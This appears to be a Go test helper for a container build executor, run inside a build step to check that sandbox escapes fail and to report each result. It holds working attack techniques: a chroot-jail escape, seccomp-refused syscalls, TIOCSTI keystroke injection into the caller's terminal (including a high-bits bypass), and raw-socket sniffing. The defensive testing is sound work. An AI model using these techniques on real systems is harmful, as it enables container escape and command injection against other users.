// Command attack tries, from inside a RUN step, what a hostile step would. The tests of
// package run build it statically and copy it into a stage root. It prints one line per
// attempt, "name: ok" or "name: <error>", and exits 0.
package main

import (
	"bytes"
	"fmt"
	"os"
	"os/signal"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attack chroot-escape FILE | syscalls | tty | net | sniff MARKER | whoami")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "chroot-escape":
		chrootEscape(os.Args[2])
	case "syscalls":
		syscalls()
	case "tty":
		tty()
	case "net":
		network()
	case "sniff":
		sniff(os.Args[2])
	case "whoami":
		fmt.Printf("uid %d euid %d\n", os.Getuid(), os.Geteuid())
	default:
		fmt.Fprintln(os.Stderr, "unknown attack", os.Args[1])
		os.Exit(2)
	}
}

func report(name string, err error) {
	if err == nil {
		fmt.Printf("%s: ok\n", name)
		return
	}
	fmt.Printf("%s: %v\n", name, err)
}

// chrootEscape is the classic way out of a chroot(2) jail: chroot into a subdirectory
// without entering it, climb out of it with "..", and chroot to where that leads.
func chrootEscape(file string) {
	if err := os.MkdirAll("/tmp/jail", 0o755); err != nil {
		report("mkdir", err)
		return
	}
	if err := syscall.Chroot("/tmp/jail"); err != nil {
		report("chroot", err)
		return
	}
	for range 64 {
		if err := syscall.Chdir(".."); err != nil {
			report("chdir", err)
			return
		}
	}
	if err := syscall.Chroot("."); err != nil {
		report("chroot", err)
		return
	}
	b, err := os.ReadFile(file)
	if err != nil {
		report("read", err)
		return
	}
	fmt.Printf("read: ok: %s\n", b)
}

// syscalls tries system calls Docker's default seccomp profile refuses (or refuses with
// these arguments).
func syscalls() {
	errno := func(e syscall.Errno) error {
		if e == 0 {
			return nil
		}
		return e
	}
	_, _, e := unix.Syscall(unix.SYS_KEYCTL, unix.KEYCTL_GET_KEYRING_ID, uintptr(0xfffffffd) /* KEY_SPEC_SESSION_KEYRING */, 0)
	report("keyctl", errno(e))
	report("unshare", unix.Unshare(unix.CLONE_NEWUSER))
	report("mount", unix.Mount("none", "/tmp", "tmpfs", 0, ""))
	_, _, e = unix.Syscall(unix.SYS_PERSONALITY, 0x0040000 /* ADDR_COMPAT_LAYOUT */, 0, 0)
	report("personality", errno(e))
	fd, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	if err == nil {
		unix.Close(fd)
	}
	report("socket-vsock", err)
	// clone with a namespace flag; the child, if any, exits at once.
	pid, _, e := unix.RawSyscall6(unix.SYS_CLONE, unix.CLONE_NEWUTS|uintptr(syscall.SIGCHLD), 0, 0, 0, 0, 0)
	if e == 0 && pid == 0 {
		unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	}
	if e == 0 {
		var ws syscall.WaitStatus
		syscall.Wait4(int(pid), &ws, 0, nil)
	}
	report("clone-newuts", errno(e))
	var args [11]uint64 // struct clone_args: a plain fork, exit_signal SIGCHLD
	args[4] = uint64(syscall.SIGCHLD)
	pid, _, e = unix.RawSyscall(unix.SYS_CLONE3, uintptr(unsafe.Pointer(&args)), unsafe.Sizeof(args), 0)
	if e == 0 && pid == 0 {
		unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	}
	if e == 0 {
		var ws syscall.WaitStatus
		syscall.Wait4(int(pid), &ws, 0, nil)
	}
	report("clone3", errno(e))
	// A plain fork must work: the profile allows clone without namespace flags.
	pid, _, e = unix.RawSyscall6(unix.SYS_CLONE, uintptr(syscall.SIGCHLD), 0, 0, 0, 0, 0)
	if e == 0 && pid == 0 {
		unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	}
	if e == 0 {
		var ws syscall.WaitStatus
		syscall.Wait4(int(pid), &ws, 0, nil)
	}
	report("fork", errno(e))
	ownPty()
}

// ownPty makes a pty of the step's own its controlling terminal, where the kernel lets
// TIOCSTI through, so that only the seccomp filter can refuse it; the request is tried
// as is and with high bits set (the kernel takes it as an unsigned int). It leaves the
// caller's session.
func ownPty() {
	// The pty hangs up when the master closes, before the slave: no SIGHUP for that.
	signal.Ignore(syscall.SIGHUP)
	if _, err := unix.Setsid(); err != nil {
		report("setsid", err)
		return
	}
	master, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		report("ptmx", err)
		return
	}
	defer unix.Close(master)
	if err := unix.IoctlSetPointerInt(master, unix.TIOCSPTLCK, 0); err != nil {
		report("unlockpt", err)
		return
	}
	n, err := unix.IoctlGetInt(master, unix.TIOCGPTN)
	if err != nil {
		report("ptsname", err)
		return
	}
	// A session leader without a controlling terminal acquires the first it opens.
	slave, err := unix.Open(fmt.Sprintf("/dev/pts/%d", n), unix.O_RDWR, 0)
	if err != nil {
		report("pts", err)
		return
	}
	defer unix.Close(slave)
	_, err = unix.IoctlGetTermios(slave, unix.TCGETS)
	report("ioctl-tcgets", err)
	report("ioctl-tiocsti", inject(slave, unix.TIOCSTI, "x"))
	report("ioctl-tiocsti-highbits", inject(slave, 1<<32|unix.TIOCSTI, "x"))
}

// inject pushes s into the input queue of the terminal open as fd, one byte at a time,
// with ioctl request req (TIOCSTI, or it with high bits set).
func inject(fd int, req uint64, s string) error {
	for i := 0; i < len(s); i++ {
		b := s[i]
		if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), uintptr(req), uintptr(unsafe.Pointer(&b))); e != 0 {
			return e
		}
	}
	return nil
}

// tty tries to type a command into the terminal of whoever started the executor: through
// /dev/tty (the controlling terminal, if the step has one), through any of fds 0-2 that
// is a terminal, and by stealing one of those as its controlling terminal.
func tty() {
	// Built here so that the output never holds it.
	line := "echo " + "PWN" + "ED\n"
	fd, err := unix.Open("/dev/tty", unix.O_RDWR|unix.O_NOCTTY, 0)
	report("open-tty", err)
	if err == nil {
		report("tiocsti-tty", inject(fd, unix.TIOCSTI, line))
		unix.Close(fd)
	}
	for fd := 0; fd <= 2; fd++ {
		name := fmt.Sprintf("tiocsti-fd%d", fd)
		if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err != nil {
			report(name, fmt.Errorf("not a terminal: %w", err))
			continue
		}
		report(name, inject(fd, unix.TIOCSTI, line))
	}
	if _, err := unix.Setsid(); err != nil {
		report("setsid", err)
		return
	}
	for fd := 0; fd <= 2; fd++ {
		name := fmt.Sprintf("steal-fd%d", fd)
		if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err != nil {
			report(name, fmt.Errorf("not a terminal: %w", err))
			continue
		}
		if err := unix.IoctlSetPointerInt(fd, unix.TIOCSCTTY, 1); err != nil {
			report(name, err)
			continue
		}
		report(name, inject(fd, unix.TIOCSTI, line))
	}
}

// network tries what CAP_NET_RAW and CAP_NET_BIND_SERVICE give over the host's network
// namespace: a packet socket (which sees every frame of every interface), a raw IP
// socket, and a port below 1024.
func network() {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	if err == nil {
		unix.Close(fd)
	}
	report("socket-packet", err)
	fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
	if err == nil {
		unix.Close(fd)
	}
	report("socket-raw", err)
	fd, err = unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		report("bind-81", err)
		return
	}
	defer unix.Close(fd)
	report("bind-81", unix.Bind(fd, &unix.SockaddrInet4{Port: 81, Addr: [4]byte{127, 0, 0, 1}}))
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// sniff reads every frame of the network namespace for two seconds with a packet socket,
// while it sends UDP datagrams holding "inside-MARKER" to 127.0.0.1, and reports whether
// it saw those and whether it saw datagrams holding "outside-MARKER" (which the test
// sends on the host's loopback).
func sniff(marker string) {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		report("sniff", err)
		return
	}
	defer unix.Close(fd)
	tv := unix.Timeval{Usec: 50000}
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv); err != nil {
		report("sniff", err)
		return
	}
	udp, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		report("sniff", err)
		return
	}
	defer unix.Close(udp)
	inside, outside := []byte("inside-"+marker), []byte("outside-"+marker)
	var sawInside, sawOutside bool
	buf := make([]byte, 65536)
	for deadline := time.Now().Add(2 * time.Second); time.Now().Before(deadline); {
		unix.Sendto(udp, inside, 0, &unix.SockaddrInet4{Port: 9, Addr: [4]byte{127, 0, 0, 1}})
		n, _, err := unix.Recvfrom(fd, buf, 0)
		if err != nil {
			continue
		}
		sawInside = sawInside || bytes.Contains(buf[:n], inside)
		sawOutside = sawOutside || bytes.Contains(buf[:n], outside)
	}
	fmt.Printf("inside: %v\noutside: %v\n", sawInside, sawOutside)
}
